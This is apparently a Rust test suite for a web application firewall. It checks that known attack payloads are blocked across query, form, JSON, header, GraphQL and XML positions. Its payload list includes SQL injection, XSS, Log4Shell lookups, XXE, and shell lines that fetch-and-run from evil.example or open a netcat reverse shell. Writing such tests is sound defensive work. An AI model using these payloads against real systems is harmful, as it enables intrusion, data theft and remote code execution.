//! Well-known attack payloads, written by us, per class: each must be blocked at paranoia 1
//! when sent as a query argument, a form field and a JSON field.

use palisade_waf::{Action, Engine, Request, RuleSet, WafSettings};

const PAYLOADS: &[(&str, &str)] = &[
    ("sqli", "1' AND SLEEP(5)-- -"),
    ("sqli", "' OR 1=1 LIMIT 1 -- "),
    ("sqli", "1 UNION SELECT username, password FROM users"),
    ("sqli", "admin' #"),
    ("sqli", "1); DROP TABLE accounts; --"),
    ("sqli", "' || (SELECT pg_sleep(10)) || '"),
    (
        "sqli",
        "1' AND extractvalue(1, concat(0x7e, (SELECT user()))) -- ",
    ),
    ("xss", "\"><svg/onload=alert(1)>"),
    ("xss", "<img src=1 onerror=confirm(document.domain)>"),
    ("xss", "javascript:alert(1)//"),
    ("xss", "<iframe srcdoc=\"<script>alert(1)</script>\">"),
    ("xss", "<details open ontoggle=alert(1)>"),
    ("lfi", "....//....//....//etc/passwd"),
    ("lfi", "..%252f..%252f..%252fetc%252fshadow"),
    (
        "lfi",
        "php://filter/read=convert.base64-encode/resource=config.php",
    ),
    ("rfi", "http://203.0.113.7/shell.txt?"),
    ("rce", "; curl http://evil.example/x.sh | sh"),
    ("rce", "$(whoami)"),
    ("rce", "`id`"),
    ("rce", "| nc -e /bin/sh 203.0.113.7 4444"),
    ("rce", "<?php system($_GET['c']); ?>"),
    ("ssti", "{{7*7}}"),
    ("ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    (
        "ssti",
        "{{request.application.__globals__.__builtins__.__import__('os')}}",
    ),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "http://127.0.0.1:6379/"),
    ("ssrf", "gopher://localhost:11211/_stats"),
    ("jndi", "${jndi:ldap://evil.example/a}"),
    ("jndi", "${${lower:j}${lower:n}di:rmi://evil.example/a}"),
    (
        "xxe",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    ),
    ("crlf", "x%0d%0aSet-Cookie:%20admin=1"),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "admin)(&(objectClass=*)"),
    (
        "xxe",
        "<!DOCTYPE r PUBLIC \"-//x//EN\" \"http://evil.example/x.dtd\"><r/>",
    ),
    (
        "xxe",
        "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]>",
    ),
    (
        "xxe",
        "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>",
    ),
    ("xml-injection", "bob</name><role>admin</role><name>bob"),
    ("nosql", "{\"$ne\": null}"),
    ("nosql", "'; return this.password.match(/^a/) && sleep(1000); var x='"),
    ("crlf", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"),
    ("mail", "ana@example.com%0aBcc:%20all@example.com"),
    ("mail", "a@example.com -OQueueDirectory=/tmp -X/var/www/html/s.php"),
    ("ssi", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("el", "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}"),
    (
        "ognl",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}",
    ),
    ("spel", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("spel", "#{T(java.lang.System).getenv()}"),
    ("jndi", "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}"),
    ("jndi", "${j${env:NOPE:-n}di:dns://evil.example/a}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC"),
    ("deserialization", "aced0005737200116a6176612e7574696c2e486173684d6170"),
    ("deserialization", "O:8:\"Exploit\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "!!python/object/apply:os.system [\"id\"]"),
    ("prototype-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("prototype-pollution", "constructor[prototype][isAdmin]=1"),
];

/// Sends `req` and says whether it was blocked at paranoia `p`.
fn blocked(engine: &Engine, p: u8, req: &Request) -> bool {
    engine
        .inspect(req, &WafSettings::default().with_paranoia(p), None)
        .action
        == Action::Block
}

/// Log4Shell, Shellshock and expression payloads are blocked in any header, not only
/// User-Agent, while ordinary header values pass.
#[test]
fn header_payloads_are_blocked_in_every_header() {
    let engine = Engine::new(RuleSet::embedded().expect("embedded rules compile"));
    let payloads = [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}ndi:rmi://evil.example/a}",
        "() { :; }; /bin/bash -c 'id'",
        "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "x%0d%0aSet-Cookie:%20admin=1",
    ];
    let headers = [
        "user-agent",
        "referer",
        "x-forwarded-for",
        "x-api-version",
        "accept-language",
        "authorization",
        "if-modified-since",
        "x-custom-trace",
    ];
    let mut missed = Vec::new();
    for payload in payloads {
        for h in headers {
            let req = Request::new("GET", "/").header(h, payload.as_bytes());
            if !blocked(&engine, 1, &req) {
                missed.push(format!("{h}: {payload}"));
            }
        }
    }
    assert!(missed.is_empty(), "not blocked:\n{}", missed.join("\n"));
    let benign = Request::new("GET", "/")
        .header(
            "user-agent",
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/124.0",
        )
        .header("accept-language", b"de-DE,de;q=0.9,en;q=0.8")
        .header(
            "x-custom-trace",
            b"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        )
        .header("if-modified-since", b"Wed, 21 Oct 2015 07:28:00 GMT");
    assert!(!blocked(&engine, 1, &benign));
}

/// MongoDB operators are caught as bracket names in queries and forms, as JSON keys at any
/// depth, and as operator objects inside a string value; `$ref`-style keys of JSON Schema pass.
#[test]
fn nosql_operators_in_every_form() {
    let engine = Engine::new(RuleSet::embedded().expect("embedded rules compile"));
    let attacks = [
        Request::new("GET", "/login?user=admin&password[$ne]=x"),
        Request::new("GET", "/users?filter[$where]=sleep(100)"),
        Request::new("POST", "/login")
            .header("content-type", b"application/x-www-form-urlencoded")
            .body(b"user[$regex]=^adm&password[$gt]="),
        Request::new("POST", "/login")
            .header("content-type", b"application/json")
            .body(br#"{"user": "admin", "password": {"$ne": null}}"#),
        Request::new("POST", "/search")
            .header("content-type", b"application/json")
            .body(br#"{"q": {"$where": "this.secret.length > 0"}}"#),
        Request::new("POST", "/search")
            .header("content-type", b"application/json")
            .body(br#"{"filter": [{"name": {"$in": ["a"]}}, {"$or": [{"a": 1}]}]}"#),
    ];
    for (i, req) in attacks.iter().enumerate() {
        assert!(blocked(&engine, 1, req), "NoSQL attack {i} passed");
    }
    let schema = Request::new("POST", "/schemas")
        .header("content-type", b"application/json")
        .body(br##"{"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "x", "properties": {"a": {"$ref": "#/$defs/a"}}}"##);
    assert!(!blocked(&engine, 1, &schema));
}

/// GraphQL: queries in GET parameters and in POST JSON, with variables, are inspected like
/// any other value; ordinary queries and mutations pass.
#[test]
fn graphql_queries_and_variables_are_inspected() {
    let engine = Engine::new(RuleSet::embedded().expect("embedded rules compile"));
    let q = "query%20User(%24id%3A%20ID!)%20%7B%20user(id%3A%20%24id)%20%7B%20name%20%7D%20%7D";
    let benign_target = format!("/graphql?query={q}&variables=%7B%22id%22%3A%2242%22%7D");
    let benign_get = Request::new("GET", &benign_target);
    assert!(!blocked(&engine, 1, &benign_get));
    let bad_target =
        format!("/graphql?query={q}&variables=%7B%22id%22%3A%221%27%20OR%20%271%27%3D%271%22%7D");
    let bad_get = Request::new("GET", &bad_target);
    assert!(
        blocked(&engine, 1, &bad_get),
        "SQLi in GET variables passed"
    );
    let benign_post = Request::new("POST", "/graphql")
        .header("content-type", b"application/json")
        .body(br#"{"query": "mutation Add($body: String!) { addComment(postId: 7, body: $body) { id } }", "variables": {"body": "I'd select this one, or the other."}, "operationName": "Add"}"#);
    assert!(!blocked(&engine, 1, &benign_post));
    let bad_posts: [&[u8]; 3] = [
        br#"{"query": "query S($q: String) { search(q: $q) { id } }", "variables": {"q": "x' UNION SELECT password FROM users--"}}"#,
        br#"{"query": "query { user(name: "<script>alert(1)</script>") { id } }"}"#,
        br#"{"query": "query F($f: JSON) { find(filter: $f) { id } }", "variables": {"f": {"password": {"$ne": null}}}}"#,
    ];
    for (i, body) in bad_posts.iter().enumerate() {
        let req = Request::new("POST", "/graphql")
            .header("content-type", b"application/json")
            .body(body);
        assert!(blocked(&engine, 1, &req), "GraphQL POST attack {i} passed");
    }
}

/// XML bodies: the DOCTYPE is inspected in the raw body (also UTF-16), element text and
/// attributes are values; a plain document passes.
#[test]
fn xml_bodies_are_inspected() {
    let engine = Engine::new(RuleSet::embedded().expect("embedded rules compile"));
    fn xml(body: &[u8]) -> Request<'_> {
        Request::new("POST", "/soap")
            .header("content-type", b"application/xml")
            .body(body)
    }
    let plain = b"<?xml version=\"1.0\"?><order id=\"7\"><note>Don't ring; the baby's asleep</note></order>";
    assert!(!blocked(&engine, 1, &xml(plain)));
    let utf16: Vec<u8> = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let attacks: [&[u8]; 4] = [
        b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        b"<!DOCTYPE l [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><l>&c;</l>",
        b"<order><note>x' OR '1'='1</note></order>",
        &utf16,
    ];
    for (i, body) in attacks.iter().enumerate() {
        assert!(blocked(&engine, 1, &xml(body)), "XML attack {i} passed");
    }
}

/// Open redirects to absolute URLs are a paranoia-2 finding: they pass at 1, block at 2, and
/// relative targets pass at both.
#[test]
fn open_redirect_is_paranoia_two() {
    let engine = Engine::new(RuleSet::embedded().expect("embedded rules compile"));
    let bad = Request::new("GET", "/login?next=https%3A%2F%2Fevil.example%2F");
    assert!(!blocked(&engine, 1, &bad));
    assert!(blocked(&engine, 2, &bad));
    let relative = Request::new("GET", "/login?next=%2Faccount%2Forders");
    assert!(!blocked(&engine, 2, &relative));
}

fn enc(v: &str) -> String {
    v.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[test]
fn known_payloads_are_blocked_in_every_position() {
    let engine = Engine::new(RuleSet::embedded().expect("embedded rules compile"));
    let settings = WafSettings::default();
    let mut missed = Vec::new();
    for (class, payload) in PAYLOADS {
        let target = format!("/search?q={}", enc(payload));
        let form = format!("q={}", enc(payload));
        let json = serde_json::json!({ "q": payload }).to_string();
        let reqs = [
            ("query", Request::new("GET", &target)),
            (
                "form",
                Request::new("POST", "/f")
                    .header("content-type", b"application/x-www-form-urlencoded")
                    .body(form.as_bytes()),
            ),
            (
                "json",
                Request::new("POST", "/f")
                    .header("content-type", b"application/json")
                    .body(json.as_bytes()),
            ),
        ];
        for (pos, req) in reqs {
            if engine.inspect(&req, &settings, None).action != Action::Block {
                missed.push(format!("{class} in {pos}: {payload}"));
            }
        }
    }
    assert!(missed.is_empty(), "not blocked:\n{}", missed.join("\n"));
}

/// Prototype pollution arrives as JSON keys (any depth) or bracket names; a key merely
/// containing "prototype" passes.
#[test]
fn prototype_pollution_in_names() {
    let engine = Engine::new(RuleSet::embedded().expect("embedded rules compile"));
    let json = |body: &'static [u8]| {
        Request::new("POST", "/api/settings")
            .header("content-type", b"application/json")
            .body(body)
    };
    assert!(blocked(
        &engine,
        1,
        &json(br#"{"a": {"__proto__": {"isAdmin": true}}}"#)
    ));
    assert!(blocked(
        &engine,
        1,
        &json(br#"{"constructor": {"prototype": {"isAdmin": true}}}"#)
    ));
    assert!(blocked(
        &engine,
        1,
        &Request::new("GET", "/?constructor[prototype][isAdmin]=1")
    ));
    assert!(!blocked(
        &engine,
        1,
        &json(br#"{"prototypeName": "mk2", "constructorId": 7}"#)
    ));
}
